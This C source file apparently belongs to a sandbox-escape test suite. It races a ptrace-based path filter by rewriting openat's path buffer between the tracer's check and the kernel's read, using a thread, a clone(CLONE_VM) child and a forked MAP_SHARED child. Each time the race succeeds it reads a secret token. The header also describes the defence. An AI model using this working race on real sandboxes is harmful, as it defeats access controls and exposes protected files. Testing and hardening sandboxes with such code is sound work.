/* tracejail-escape
 * id: race-pointer
 * class: pointer-argument races
 * title: rewrite openat's path between the tracer's check and the kernel's read, three ways
 * covered: standard
 * needs: secret
 *
 * Technique: the tracer reads the path from the tracee's memory at the syscall stop; the kernel
 * reads it again after the tracer lets the call go. Anything that can write that memory meanwhile
 * can swap an allowed path (TJ_DECOY) for a denied one (TJ_SECRET): (a) another thread, (b) a
 * clone(CLONE_VM) child that is not a thread, (c) a forked child sharing a MAP_SHARED mapping.
 * Each way makes 20000 openat() calls on the flipped buffer; the two paths are padded with extra
 * slashes to the same length, and what each call opened is read from /proc/self/fd/N.
 * Defence: the tracer pins the argument: it copies the path it checked into memory the tracee
 * cannot write and points the syscall at that copy, so the kernel reads exactly what was checked.
 * Landlock (strict and above) checks the same rule inside the kernel.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

enum { kAttempts = 20000 };

/* The buffer the syscall reads, and the flag that stops its flipper. */
struct shared {
  atomic_int stop;
  char buf[PATH_MAX];
};

static struct shared in_process;         /* (a) and (b): same address space */
static char decoy_path[PATH_MAX], secret_path[PATH_MAX], canon[PATH_MAX + 256];
static size_t lo, span;                  /* the bytes where the two paths differ */

/* Alternate the differing bytes between the secret's and the decoy's. The empty asm statements stop
   the compiler from dropping the first copy as overwritten. No libc state is touched, so this is
   safe in a clone(CLONE_VM) child that shares our TLS. */
static void flip(struct shared *s) {
  while (!atomic_load_explicit(&s->stop, memory_order_relaxed)) {
    memcpy(s->buf + lo, secret_path + lo, span);
    __asm__ volatile("" ::: "memory");
    memcpy(s->buf + lo, decoy_path + lo, span);
    __asm__ volatile("" ::: "memory");
  }
}

static void *flip_thread(void *arg) {
  flip(arg);
  return NULL;
}

static int flip_clone(void *arg) {
  flip(arg);
  return 0;
}

/* Pads the shorter of the two paths with extra '/' where their directories part ways, so both have
   the same length and differ in as few bytes as possible. */
static int equalize(const char *decoy, const char *secret_name) {
  const char *a = decoy, *b = secret_name;
  size_t la = strlen(a), lb = strlen(b), cut = 0;
  for (size_t i = 0; a[i] && a[i] == b[i]; ++i)
    if (a[i] == '/') cut = i + 1;
  size_t extra = la > lb ? la - lb : lb - la;
  if (la + lb + extra >= PATH_MAX) return 0;
  char *shorter = la < lb ? decoy_path : secret_path;
  const char *src = la < lb ? a : b;
  snprintf(la < lb ? secret_path : decoy_path, PATH_MAX, "%s", la < lb ? b : a);
  memcpy(shorter, src, cut);
  memset(shorter + cut, '/', extra);
  strcpy(shorter + cut + extra, src + cut);
  size_t len = strlen(decoy_path), hi = len;
  for (lo = 0; lo < len && decoy_path[lo] == secret_path[lo]; ++lo) {}
  while (hi > lo && decoy_path[hi - 1] == secret_path[hi - 1]) --hi;
  span = hi - lo;
  return span > 0;
}

struct counts {
  long secret, decoy, denied, other;
  int first_err;
};

/* The victim loop: openat on the shared buffer, then ask the fd what it is. */
static struct counts hammer(struct shared *s) {
  struct counts c = {0, 0, 0, 0, 0};
  for (int i = 0; i < kAttempts; ++i) {
    int fd = openat(AT_FDCWD, s->buf, O_RDONLY);
    if (fd < 0) {
      if (errno == EACCES || errno == EPERM) ++c.denied; else ++c.other;
      if (c.first_err == 0) c.first_err = errno;
      continue;
    }
    char link[64], path[PATH_MAX];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, path, sizeof path - 1);
    path[n > 0 ? n : 0] = '\0';
    if (strcmp(path, canon) == 0 || is_secret(fd)) {
      if (c.secret++ == 0 && token[0] == '\0') {
        ssize_t r = read(fd, token, sizeof token - 1);
        token[r > 0 ? r : 0] = '\0';
        token[strcspn(token, "\n")] = '\0';
      }
    } else {
      ++c.decoy;
    }
    close(fd);
  }
  return c;
}

static void report(const char *way, struct counts c) {
  char what[128];
  printf("%s: %d openat calls: secret=%ld decoy=%ld denied=%ld other=%ld (%s)\n", way, kAttempts,
         c.secret, c.decoy, c.denied, c.other, c.first_err ? ename(c.first_err) : "ok");
  if (c.secret) {
    ++escaped;
    snprintf(what, sizeof what, "%ld", c.secret);
    append(escapes, sizeof escapes, way, what);
  } else {
    snprintf(what, sizeof what, "secret=0 (denied %ld%s%s)", c.denied, c.first_err ? " " : "",
             c.first_err ? ename(c.first_err) : "");
    append(blocked, sizeof blocked, way, what);
  }
}

static void fail(const char *way, const char *step) {
  int err = errno;
  printf("%s: %s failed (%s)\n", way, step, ename(err));
  char what[96];
  snprintf(what, sizeof what, "%s %s", step, ename(err));
  append(blocked, sizeof blocked, way, what);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  secret = env("TJ_SECRET");
  const char *decoy = env("TJ_DECOY");
  const char *secret_dir = env("TJ_SECRET_DIR");
  secret_st_known = stat(secret, &secret_st) == 0;
  char dir[PATH_MAX];
  if (realpath(secret_dir, dir) != NULL)
    snprintf(canon, sizeof canon, "%s/%s", dir, strrchr(secret, '/') + 1);
  else
    snprintf(canon, sizeof canon, "%s", secret);
  if (!equalize(decoy, secret)) {
    fprintf(stderr, "race_pointer: cannot make equal-length paths of TJ_DECOY and TJ_SECRET\n");
    return 2;
  }
  printf("decoy path:  %s\nsecret path: %s\n(%zu bytes each, %zu of them flip)\n", decoy_path,
         secret_path, strlen(decoy_path), span);

  /* Control: the padded secret path on its own is denied; only the race can get it through. */
  errno = 0;
  attempt("control: openat(padded secret path), no flipper", openat(AT_FDCWD, secret_path, O_RDONLY));

  /* (a) A thread of this process. */
  const char *way = "(a) pthread flipper";
  strcpy(in_process.buf, decoy_path);
  atomic_store(&in_process.stop, 0);
  pthread_t t;
  if (pthread_create(&t, NULL, flip_thread, &in_process) == 0) {
    struct counts c = hammer(&in_process);
    atomic_store(&in_process.stop, 1);
    pthread_join(t, NULL);
    report(way, c);
  } else {
    fail(way, "pthread_create");
  }

  /* (b) A clone(CLONE_VM) child: same memory, but a separate process (no CLONE_THREAD). */
  way = "(b) clone(CLONE_VM) child flipper";
  strcpy(in_process.buf, decoy_path);
  atomic_store(&in_process.stop, 0);
  enum { kStack = 64 * 1024 };
  char *stack = malloc(kStack);
  pid_t pid = stack ? clone(flip_clone, stack + kStack, CLONE_VM | SIGCHLD, &in_process) : -1;
  if (pid > 0) {
    struct counts c = hammer(&in_process);
    atomic_store(&in_process.stop, 1);
    waitpid(pid, NULL, 0);
    report(way, c);
  } else {
    fail(way, "clone(CLONE_VM)");
  }
  free(stack);

  /* (c) A forked child writing through a MAP_SHARED anonymous mapping that holds the buffer. */
  way = "(c) fork + MAP_SHARED flipper";
  struct shared *m = mmap(NULL, sizeof *m, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (m == MAP_FAILED) {
    fail(way, "mmap(MAP_SHARED)");
  } else {
    strcpy(m->buf, decoy_path);
    atomic_store(&m->stop, 0);
    pid = fork();
    if (pid == 0) {
      flip(m);
      _exit(0);
    }
    if (pid > 0) {
      struct counts c = hammer(m);
      atomic_store(&m->stop, 1);
      waitpid(pid, NULL, 0);
      report(way, c);
    } else {
      fail(way, "fork");
    }
    munmap(m, sizeof *m);
  }

  if (escaped)
    printf("ESCAPED: opens that reached the secret: %s (secret: \"%s\")\n", escapes, token);
  else
    printf("BLOCKED: %s\n", blocked);
  return 0;
}
